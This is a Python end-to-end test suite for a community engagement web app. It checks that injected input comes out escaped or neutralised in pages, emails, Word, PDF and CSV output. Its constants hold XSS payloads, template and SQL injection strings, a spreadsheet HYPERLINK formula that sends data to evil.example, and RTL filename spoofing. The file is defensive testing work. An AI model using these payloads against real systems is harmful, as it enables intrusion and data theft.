"""An injection corpus through every way in (JSON API, staff forms, signed-link forms, imports)
and out (pages, emails, Word, PDF, CSV, HTML download, the public page), on the real engine.

Script tags, template syntax, SQL, spreadsheet formulas, right-to-left and zero-width
characters and hostile display names are accepted as text and come out inert: escaped in HTML,
neutralised in CSV, plain text in documents, one address per email header. NUL and other control
characters are refused at the door, naming the field; text that holds one from before (written
straight to the database here) still renders in every format. No answer is ever a 5xx.
"""

from __future__ import annotations

import csv
import io
import json
import uuid
from collections.abc import AsyncIterator
from datetime import timedelta
from email import message_from_string, policy
from typing import Any

import httpx2
import pytest
from docx import Document
from pypdf import PdfReader
from sqlmodel import select
from temporalio.testing import WorkflowEnvironment

from models.action import Action
from models.case import Case
from models.db import SessionFactory
from models.outbox import OutboxMessage
from models.policy import Policy
from models.presenter import Presenter
from models.report import ReportRow
from notifications.links import Links
from notifications.render import Renderer, compose
from notifications.types import MessageType
from services.csv_files import FORMULA_STARTS
from services.import_files import read_file
from tests.factories import add_board, add_owner, staff_headers
from tests.helpers import eventually
from tests.live import LiveApp, app_settings, serve_app
from tests.public_text_fixtures import decide_every_place
from tests.report_fixtures import draft_quarterly_in_20_days
from tests.staff import StaffBrowser, csrf_token, signed_in, text_of
from tests.world import today
from worker.build import build_worker

pytestmark = [pytest.mark.e2e, pytest.mark.slow]

SCRIPT = "<script>alert('cv')</script>"
IMG = '"><img src=x onerror=alert(1)>'
TEMPLATE = "{{ 7*191 }} {% if true %}13{{ 37 }}{% endif %} ${1300+37}"  # 1337 if evaluated
SQL = 'Robert\'); DROP TABLE "case";--'
FORMULA = '=HYPERLINK("https://evil.example/?q="&A1,"Click")'
RTL = "مريم \u202egnp.exe"
ZERO_WIDTH = "zero\u200bwidth\u200djoin\ufeff"
HOSTILE_NAME = "Eve <eve@evil.example>, Bob é"
CORPUS = [SCRIPT, IMG, TEMPLATE, SQL, FORMULA, RTL, ZERO_WIDTH]
CONTROL = ["\x00", "\x1b[31m", "\x07", "\x0b"]
HTML = {"Accept": "text/html"}


def rich(prefix: str) -> str:
    return f"{prefix} " + " | ".join(CORPUS)


def assert_inert_html(html: str, where: str) -> None:
    """What people typed is in the page only as escaped text."""
    assert "<script>alert(" not in html, where
    assert "<img src=x" not in html, where
    assert "1337" not in html, where
    assert "\x00" not in html, where


def assert_no_5xx(response: httpx2.Response) -> httpx2.Response:
    assert response.status_code < 500, (response.request.url, response.status_code, response.text)
    return response


@pytest.fixture
async def live(
    dev_env: WorkflowEnvironment, engine: Any, sessions: SessionFactory, task_queue: str, executor
) -> AsyncIterator[LiveApp]:
    add_board(sessions, policy=Policy.in_seconds(scale=100))
    settings = app_settings(task_queue=task_queue)
    async with (
        build_worker(dev_env.client, sessions=sessions, task_queue=task_queue, executor=executor),
        serve_app(engine=engine, client=dev_env.client, settings=settings) as app,
    ):
        yield app


async def test_the_injection_corpus_goes_in_everywhere_and_comes_out_inert(
    live: LiveApp, sessions: SessionFactory
) -> None:
    owner = add_owner(sessions, name="Olu Owner")
    lead = staff_headers(sessions, live.settings, "engagement_lead")
    cv_lead = staff_headers(sessions, live.settings, "cv_lead")
    meeting = today() - timedelta(days=5)
    async with httpx2.AsyncClient(base_url=live.base_url, timeout=60) as http:
        await _control_characters_are_refused_everywhere(http, live, sessions, lead)
        case_id = await _api_case(http, lead, owner.id, meeting.isoformat())
        browser = await signed_in(live.base_url, sessions, "engagement_lead")
        try:
            await _staff_forms(browser, meeting)
        finally:
            await browser.client.aclose()
        action_id = await _action_of(sessions, case_id)
        await _owner_update(http, live, sessions, action_id)
        _import_files(sessions)
        await _pages_show_it_escaped(http, live, sessions, case_id, action_id)
        await _emails_render_it_inert(sessions, live, case_id)
        await _report_outputs(http, sessions, cv_lead, meeting)


# --- the ways in ------------------------------------------------------------------------------


async def _control_characters_are_refused_everywhere(
    http: httpx2.AsyncClient, live: LiveApp, sessions: SessionFactory, lead: dict[str, str]
) -> None:
    base = {"board": "tht", "meeting_date": today().isoformat()}
    for bad in CONTROL:
        for body, field in (
            ({**base, "theme": f"Damp{bad}mould"}, "theme"),
            ({**base, "presenters": [{"name": f"Amina{bad}"}]}, "presenters.0.name"),
            ({**base, "actions": [{"text": f"Survey{bad} every flat"}]}, "actions.0.text"),
        ):
            answer = assert_no_5xx(await http.post("/api/v1/cases", json=body, headers=lead))
            assert answer.status_code == 422, body
            assert answer.json()["errors"][0]["field"] == field
            assert "invisible control character" in answer.json()["errors"][0]["message"]
    partner = await http.post(
        "/api/v1/partners",
        json={"name": "Barts\x00 Health"},
        headers=staff_headers(sessions, live.settings, "admin"),
    )
    assert partner.status_code == 422 and partner.json()["errors"][0]["field"] == "name"
    browser = await signed_in(live.base_url, sessions, "engagement_lead")
    try:
        page = await browser.submit(
            "/cases/new",
            {**_intake_fields(today()), "said": "What was said\x00 at the meeting"},
            headers=HTML,
        )
        assert page.status_code == 422
        words = text_of(page.text)
        assert "What was said" in words and "invisible control character (U+0000 NUL)" in words
    finally:
        await browser.client.aclose()
    with sessions() as session:
        assert session.exec(select(Case)).all() == [], "nothing was stored"
    papers = [{"board_month": "2024-01", "theme": "Damp\x00", "actions": [{"text": "Fix it"}]}]
    [item] = read_file("papers.json", json.dumps(papers), board="tht")
    assert item.errors and item.errors[0].startswith("theme: contains an invisible control")
    exported = "session_ref,board,meeting_date,status,theme\nr1,tht,2024-01-10,held,Mould\x1b\n"
    [row] = read_file("export.csv", exported, board="tht")
    assert row.errors and row.errors[0].startswith("theme: contains an invisible control")


def _intake_fields(day: Any) -> dict[str, str]:
    return {
        "board": "tht",
        "meeting_date[day]": str(day.day),
        "meeting_date[month]": str(day.month),
        "meeting_date[year]": str(day.year),
        "outcome": "held",
        "theme": "Housing",
        "said": "Residents spoke.",
        "presenters-0-name": "Amina Begum",
        "actions-0-text": "Write to residents",
        "intent": "save",
    }


async def _api_case(
    http: httpx2.AsyncClient, lead: dict[str, str], owner_id: uuid.UUID, meeting: str
) -> uuid.UUID:
    body = {
        "board": "tht",
        "meeting_date": meeting,
        "theme": FORMULA,
        "said": rich("Residents said:") + "\nSecond line.",
        "presenters": [
            {
                "name": HOSTILE_NAME,
                "organisation": SCRIPT,
                "email": "amina@example.com",
                "consent_to_publish_name": True,
            }
        ],
        "actions": [{"text": rich("+Survey every flat:"), "owner_id": str(owner_id)}],
    }
    answer = assert_no_5xx(await http.post("/api/v1/cases", json=body, headers=lead))
    assert answer.status_code == 201, answer.text
    return uuid.UUID(answer.json()["case_id"])


async def _staff_forms(browser: StaffBrowser, meeting: Any) -> None:
    fields = {
        **_intake_fields(meeting),
        "theme": f"@{SQL}"[:300],
        "said": rich("-Said through the form:"),
        "presenters-0-name": f"{RTL} {IMG}",
        "actions-0-text": rich("=Agreed through the form:"),
    }
    made = assert_no_5xx(await browser.submit("/cases/new", fields))
    assert made.status_code == 303, made.text
    page = await browser.get(made.headers["location"].split("?")[0])
    assert_inert_html(page.text, "the case recorded through the form")
    assert "&lt;img src=x onerror=alert(1)&gt;" in page.text
    partner = assert_no_5xx(
        await browser.submit("/directory/partners/new", {"name": f"{FORMULA} {SCRIPT}"})
    )
    assert partner.status_code == 303
    listed = await browser.get("/directory/partners")
    assert_inert_html(listed.text, "the directory")
    exported = await browser.get("/directory/export.csv")
    cells = [cell for row in csv.reader(io.StringIO(exported.text)) for cell in row]
    assert f"'{FORMULA} {SCRIPT}" in cells
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)


async def _action_of(sessions: SessionFactory, case_id: uuid.UUID) -> uuid.UUID:
    def found() -> uuid.UUID | None:
        with sessions() as session:
            row = session.exec(select(Action).where(Action.case_id == case_id)).first()
            return row.id if row else None

    return await eventually(found)


async def _owner_update(
    http: httpx2.AsyncClient, live: LiveApp, sessions: SessionFactory, action_id: uuid.UUID
) -> None:
    with sessions() as session:
        action = session.get(Action, action_id)
        assert action is not None and action.owner_id is not None
        link = _links(live).owner_url(action.id, action.owner_id, action.assignment_no)
    async with httpx2.AsyncClient(base_url=live.base_url, timeout=60) as owner:
        form = await owner.get(f"{link}/update")
        assert form.status_code == 200
        token = csrf_token(form.text)
        submission = form.text.split('name="submission" value="')[1].split('"')[0]
        refused = await owner.post(
            f"{link}/update",
            data={
                "csrf_token": token,
                "submission": submission,
                "text": "Done\x00",
                "rag": "green",
            },
        )
        assert refused.status_code == 422
        assert "The text you typed contains an invisible control character" in text_of(refused.text)
        sent = assert_no_5xx(
            await owner.post(
                f"{link}/update",
                data={
                    "csrf_token": token,
                    "submission": submission,
                    "text": rich("+Owner's update:"),
                    "rag": "green",
                },
            )
        )
        assert sent.status_code == 303, sent.text
        receipt = await owner.get(sent.headers["location"])
        assert_inert_html(receipt.text, "the owner's receipt")


def _import_files(sessions: SessionFactory) -> None:
    papers = [
        {
            "board_month": "2023-11",
            "theme": f"{SCRIPT} {TEMPLATE}",
            "said": rich("Imported:"),
            "presenters": [{"name": HOSTILE_NAME}],
            "actions": [{"text": f"{FORMULA} {SQL}", "owner": f"{RTL}"}],
        }
    ]
    [item] = read_file("papers.json", json.dumps(papers), board="tht")
    assert item.errors == [] and item.body is not None
    assert item.body.theme == f"{SCRIPT} {TEMPLATE}"
    assert item.body.actions[0].text == f"{FORMULA} {SQL}"


# --- the ways out -----------------------------------------------------------------------------


async def _presenter_answer(live: LiveApp, link: str) -> None:
    async with httpx2.AsyncClient(base_url=live.base_url, timeout=60) as presenter:
        form = await presenter.get(link)
        fields = {
            "csrf_token": csrf_token(form.text),
            "submission": form.text.split('name="submission" value="')[1].split('"')[0],
            "answer": "missing",
        }
        refused = await presenter.post(link, data={**fields, "comment": "Missing\x0b one"})
        assert refused.status_code == 422
        assert "invisible control character (U+000B vertical tab)" in text_of(refused.text)
        sent = assert_no_5xx(
            await presenter.post(link, data={**fields, "comment": rich("Presenter says:")})
        )
        assert sent.status_code == 303, sent.text
        assert_inert_html((await presenter.get(sent.headers["location"])).text, "the receipt")


def _links(live: LiveApp) -> Links:
    return Links(
        live.settings.secret_key.get_secret_value(),
        live.base_url,
        max_age=timedelta(days=live.settings.link_max_age_days),
    )


async def _pages_show_it_escaped(
    http: httpx2.AsyncClient,
    live: LiveApp,
    sessions: SessionFactory,
    case_id: uuid.UUID,
    action_id: uuid.UUID,
) -> None:
    browser = await signed_in(live.base_url, sessions, "cv_lead")
    try:
        case_page = await browser.get(f"/cases/{case_id}")
        assert case_page.status_code == 200
        assert_inert_html(case_page.text, "the staff case page")
        assert "&lt;script&gt;alert(&#39;cv&#39;)&lt;/script&gt;" in case_page.text
        assert "{{ 7*191 }}" in case_page.text and "\u202egnp.exe" in case_page.text
        assert ZERO_WIDTH in case_page.text
        for path in ("/", "/rag-board", "/escalations", "/cases"):
            assert_inert_html((await browser.get(path)).text, path)
    finally:
        await browser.client.aclose()
    with sessions() as session:
        action = session.get(Action, action_id)
        presenter = session.exec(select(Presenter).where(Presenter.case_id == case_id)).one()
        presenter_id = presenter.id
        assert action is not None and action.owner_id is not None
        owner_link = _links(live).owner_url(action.id, action.owner_id, action.assignment_no)
    presenter_link = _links(live).presenter_url(case_id, presenter_id)
    await _presenter_answer(live, presenter_link)
    for link in (owner_link, presenter_link):
        page = assert_no_5xx(await http.get(link))
        assert page.status_code == 200
        assert_inert_html(page.text, link)
        assert "&lt;script&gt;" in page.text or "&#34;&gt;&lt;img" in page.text


async def _emails_render_it_inert(
    sessions: SessionFactory, live: LiveApp, case_id: uuid.UUID
) -> None:
    def messages() -> list[OutboxMessage]:
        with sessions() as session:
            rows = session.exec(select(OutboxMessage).where(OutboxMessage.case_id == case_id)).all()
            kinds = {r.kind for r in rows}
            wanted = {MessageType.presenter_thanks.value, MessageType.owner_action_assigned.value}
            return list(rows) if wanted <= kinds else []

    rows = await eventually(messages)
    renderer = Renderer(_links(live))
    for row in rows:
        rendered = renderer.render(row.kind, row.facts, to=row.recipient_name)
        assert_inert_html(rendered.html, f"the {row.kind} email")
        # a subject is plain text (an HTML tag there is shown, never run), on one line
        assert "\n" not in rendered.subject and "\r" not in rendered.subject
        if SCRIPT in rendered.text:
            assert "&lt;script&gt;" in rendered.html
        if row.recipient_email is None:
            continue
        message = compose(row, rendered, from_address="cv@nhs.example", from_name="Community Voice")
        parsed = message_from_string(
            message.as_bytes(policy=policy.SMTPUTF8).decode(), policy=policy.default
        )
        assert [a.addr_spec for a in parsed["To"].addresses] == [row.recipient_email]
    thanks = next(r for r in rows if r.kind == MessageType.presenter_thanks.value)
    assert thanks.recipient_name.startswith(HOSTILE_NAME), "the hostile name was the To name"


async def _report_outputs(
    http: httpx2.AsyncClient, sessions: SessionFactory, cv_lead: dict[str, str], meeting: Any
) -> None:
    report_id = await draft_quarterly_in_20_days(http, sessions, cv_lead)
    with sessions() as session:  # a NUL stored before input refused it (as in the issue)
        rows = session.exec(select(ReportRow).where(ReportRow.report_id == report_id)).all()
        assert rows, "the corpus cases are in the report"
        for row in rows:
            row.comment = f"Done\x00 on time {row.comment}\x1b"
            session.add(row)
        session.commit()
    comment = await http.patch(
        f"/api/v1/reports/{report_id}/rows/{rows[0].id}",
        json={"comment": "Edited\x00"},
        headers=cv_lead,
    )
    assert comment.status_code == 422 and comment.json()["errors"][0]["field"] == "comment"
    with sessions() as session:  # the corpus's presenters are named in its text: decided first
        assert decide_every_place(session, report_id) > 0
    for step in ("approve", "publish"):
        done = await http.post(f"/api/v1/reports/{report_id}/{step}", headers=cv_lead)
        assert done.status_code == 200, done.text
    public = assert_no_5xx(await http.get(f"/public/tht/reports/{report_id}"))
    assert public.status_code == 200
    assert_inert_html(public.text, "the public report page")
    assert "&lt;script&gt;" in public.text
    for prefix, headers in (
        (f"/api/v1/reports/{report_id}", cv_lead),
        (f"/public/tht/reports/{report_id}", {}),
    ):
        docx = assert_no_5xx(await http.get(f"{prefix}/download.docx", headers=headers))
        assert docx.status_code == 200
        words = _docx_text(docx.content)
        assert SCRIPT in words and FORMULA in words and "\x00" not in words
        assert "Done on time" in words
        pdf = assert_no_5xx(await http.get(f"{prefix}/download.pdf", headers=headers))
        assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
        pdf_text = " ".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf.content)).pages)
        assert "HYPERLINK" in pdf_text and "Done on time" in pdf_text
        sheet = assert_no_5xx(await http.get(f"{prefix}/download.csv", headers=headers))
        cells = [cell for row in csv.reader(io.StringIO(sheet.text)) for cell in row]
        assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
        assert any(cell.startswith("'" + FORMULA) for cell in cells)
        assert "\x00" not in sheet.text
        page = assert_no_5xx(await http.get(f"{prefix}/download.html", headers=headers))
        assert page.status_code == 200
        assert_inert_html(page.text, "the HTML download")
        assert "script-src" not in page.headers["content-security-policy"]


def _docx_text(content: bytes) -> str:
    document = Document(io.BytesIO(content))
    parts = [p.text for p in document.paragraphs]
    for table in document.tables:
        parts += [cell.text for row in table.rows for cell in row.cells]
    return "\n".join(parts)
